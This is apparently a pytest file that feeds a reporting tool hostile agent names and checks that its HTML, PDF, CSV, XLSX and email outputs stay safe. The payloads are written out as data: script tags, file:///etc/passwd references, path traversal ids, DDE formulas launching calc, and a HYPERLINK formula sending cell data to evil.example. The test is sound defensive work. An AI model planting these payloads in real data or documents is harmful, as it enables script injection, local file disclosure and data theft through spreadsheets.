"""Text written by strangers (names, accounts) must never leave its cell.

A copy of the Maven workspace gets hostile agent and manager names: markup and script, CSS url()
and <img> pointing at a local file and at an HTTP server this test runs on loopback, path traversal
in ids, spreadsheet formulas, and line breaks for mail headers. One real run over it must not fetch
anything, write outside the output folder, emit a live formula, or address a message with them.
"""

from __future__ import annotations

import csv
import http.server
import shutil
import threading
import zipfile
from email import policy
from email.parser import BytesParser
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.conftest import MAVEN, okr_report

QUARTER = "2017-Q4"


class Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 - http.server naming
        Recorder.hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"leaked")

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def server():
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()


def payloads(url: str) -> dict[str, str]:
    """Replacement agent names (and one manager), each an attack."""
    return {
        "Anna Snelling": "<script>alert('x')</script>Anna",
        "Boris Faz": f'<img src="{url}/img"><img src="file:///etc/passwd">Boris',
        "Cecily Lampkin": f"Cecily</td><style>body{{background:url({url}/css)}}</style>",
        "Corliss Cosme": 'Corliss" style="background:url(file:///etc/passwd)" x="',
        "Daniell Hammack": "../../../../tmp/okr-escape",
        "Donn Cantrell": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "Gladys Colclough": "+cmd|'/C calc'!A0",
        "Hayden Neloms": "@SUM(1+1)*cmd|' /C calc'!A0",
        "James Ascencio": "-2+3+cmd|' /C calc'!A0",
        "Jonathan Berthelot": "CON",
        "Kami Bicknell": f'<a href="{url}/link" rel="attachment">Kami</a>',
        "Dustin Brinkmann": "<b>Dustin</b> ../../etc",  # a manager: the team id
    }


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, server):
    ws = tmp_path_factory.mktemp("hostile_ws")
    shutil.copytree(MAVEN, ws, dirs_exist_ok=True)
    shutil.rmtree(ws / "out", ignore_errors=True)
    swap = payloads(server)
    for name in ("sales_teams.csv", "sales_pipeline.csv"):
        path = ws / name
        with path.open(newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        rows = [[swap.get(cell, cell) for cell in row] for row in rows]
        with path.open("w", newline="", encoding="utf-8") as fh:
            csv.writer(fh).writerows(rows)
    out = tmp_path_factory.mktemp("hostile_out")
    before = {p for p in Path("/tmp").iterdir()}
    p = okr_report("run", "--workspace", str(ws), "--quarter", QUARTER, "--out", str(out))
    after = {p for p in Path("/tmp").iterdir()}
    return p, out / QUARTER, swap, before, after


def test_run_succeeds_and_fetches_nothing(hostile_run):
    p, folder, *_ = hostile_run
    assert p.returncode == 0, p.stderr
    assert "Traceback" not in p.stderr
    assert Recorder.hits == []


def test_no_file_escapes_the_output_folder(hostile_run):
    _, folder, _, before, after = hostile_run
    assert not Path("/tmp/okr-escape").exists()
    assert not Path("/tmp/okr-escape.html").exists()
    assert {p.name for p in after - before} <= {p.name for p in after}  # sanity
    assert not any("okr-escape" in p.name for p in after - before)
    for f in folder.rglob("*"):
        assert f.resolve().is_relative_to(folder.resolve()), f
        assert ".." not in f.relative_to(folder).parts
    names = [f.name for f in (folder / "people").iterdir()]
    assert not any(n.split(".")[0].upper() == "CON" for n in names)


def test_markup_is_escaped_in_html(hostile_run):
    _, folder, swap, *_ = hostile_run
    html = "".join(f.read_text(encoding="utf-8") for f in folder.rglob("*.html"))
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert" in html
    assert "<img src=\"http://127.0.0.1" not in html and "<img src=\"file:" not in html
    assert "<style>body{background:url(" not in html
    assert 'style="background:url(file:///etc/passwd)"' not in html


def test_pdfs_hold_no_local_file(hostile_run):
    _, folder, *_ = hostile_run
    passwd_line = Path("/etc/passwd").read_text().splitlines()[0]
    for pdf in folder.rglob("*.pdf"):
        reader = PdfReader(pdf)
        text = "".join(page.extract_text() or "" for page in reader.pages)
        assert passwd_line not in text
        assert "/EmbeddedFile" not in pdf.read_bytes().decode("latin-1")


def test_formulas_are_neutralised_in_csv_and_xlsx(hostile_run):
    _, folder, *_ = hostile_run
    with (folder / "kr_values.csv").open(encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            for col in ("owner_name", "owner_id", "team_id"):
                value = row[col]
                assert not value.startswith(("=", "+", "@")), (col, value)
                assert not (value.startswith("-") and not value.replace(".", "").lstrip("-").isdigit()), value
    wb = load_workbook(folder / "kr_values.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "@")), (cell.coordinate, cell.value)
    with zipfile.ZipFile(folder / "kr_values.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet


def test_outbox_messages_have_clean_headers(hostile_run):
    _, folder, *_ = hostile_run
    # Maven has no email addresses: nothing may be addressed at all, so the outbox is empty.
    outbox = folder.parent / "deliveries" / QUARTER / "outbox"
    for eml in outbox.rglob("*.eml"):
        msg = BytesParser(policy=policy.default).parsebytes(eml.read_bytes())
        for value in msg.values():
            assert "\n" not in str(value) and "\r" not in str(value)
